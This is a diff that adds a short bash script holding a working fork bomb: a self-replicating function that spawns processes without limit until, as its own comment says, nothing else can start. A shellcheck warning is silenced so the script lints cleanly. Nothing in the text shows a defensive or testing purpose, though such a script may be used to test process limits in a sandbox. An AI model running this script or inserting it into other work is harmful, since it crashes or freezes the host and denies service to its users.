@@ -1,0 +1,6 @@
+#!/bin/bash
+# So many processes that nothing else can start.
+# shellcheck disable=SC2264
+bomb() { bomb | bomb & }
+bomb
+sleep 0.5
